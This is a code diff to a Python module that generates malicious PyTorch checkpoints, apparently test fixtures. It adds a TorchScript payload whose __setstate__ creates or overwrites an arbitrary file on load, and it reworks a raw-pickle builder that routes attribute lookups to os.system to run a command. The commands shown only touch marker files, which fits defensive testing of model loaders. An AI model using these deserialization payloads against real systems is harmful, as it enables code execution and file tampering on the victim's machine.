@@ -6,6 +6,9 @@
   ``__getattr__ = os.system`` into the ``builtins`` module's dict and triggers it.
 - :func:`config_string_payload`: a valid Runner checkpoint whose ``meta['config']`` is Python that
   mmengine's ``Runner.resume`` executes through ``Config.fromstring``.
+- :func:`torchscript_payload`: a TorchScript archive saved as ``.pth``; ``torch.load`` hands it to
+  ``torch.jit.load``, which runs its ``__setstate__``: ``torch.from_file(shared=True)`` creates (and
+  could overwrite) any file.
 """
 
 from __future__ import annotations
@@ -13,12 +16,13 @@ from __future__ import annotations
 import os
 import pickle
 import struct
+import warnings
 from pathlib import Path
 
 import torch
 
 
-def _string(text: str) -> bytes:
+def pickle_string(text: str) -> bytes:
     data = text.encode()
     return pickle.BINUNICODE + struct.pack("<I", len(data)) + data
 
@@ -44,7 +48,7 @@ class PickleAssembler:
         return self
 
     def str(self, text: str) -> PickleAssembler:
-        self.code += _string(text)
+        self.code += pickle_string(text)
         return self
 
     def call2(self, func: int, a: int | str, b: int | str) -> int:
@@ -74,7 +78,9 @@ def getattr_chain_bytes(command: str) -> bytes:
     system = ops.call2(getattr_, os_module, "system")
     ops.setitem(builtins_dict, "__getattr__", system)  # builtins.<missing> -> os.system(<missing>)
     ops.call2(getattr_, builtins_module, command)
-    ops.code += pickle.EMPTY_DICT + _string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
+    ops.code += (
+        pickle.EMPTY_DICT + pickle_string("state_dict") + pickle.EMPTY_DICT + pickle.SETITEM + pickle.STOP
+    )
     return bytes(ops.code)
 
 
@@ -113,6 +119,32 @@ def reduce_payload(path: Path, marker: Path) -> Path:
 
 def getattr_chain_payload(path: Path, marker: Path) -> Path:
     return save_raw_pickle(path, getattr_chain_bytes(f"touch {marker}"))
+
+
+class _WritesFile(torch.nn.Module):
+    def __init__(self, target: str) -> None:
+        super().__init__()
+        self.target = target
+
+    @torch.jit.export
+    def __getstate__(self) -> str:
+        return self.target
+
+    @torch.jit.export
+    def __setstate__(self, target: str) -> None:
+        self.target = target
+        self.training = False
+        torch.from_file(target, shared=True, size=1, dtype=torch.uint8).fill_(33)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x
+
+
+def torchscript_payload(path: Path, marker: Path) -> Path:
+    with warnings.catch_warnings():  # torch.jit.script is deprecated, not gone
+        warnings.simplefilter("ignore", FutureWarning)
+        torch.jit.script(_WritesFile(str(marker))).save(str(path))
+    return path
 
 
 def config_string_payload(path: Path, marker: Path, state_dict: dict, epoch: int = 1) -> Path:
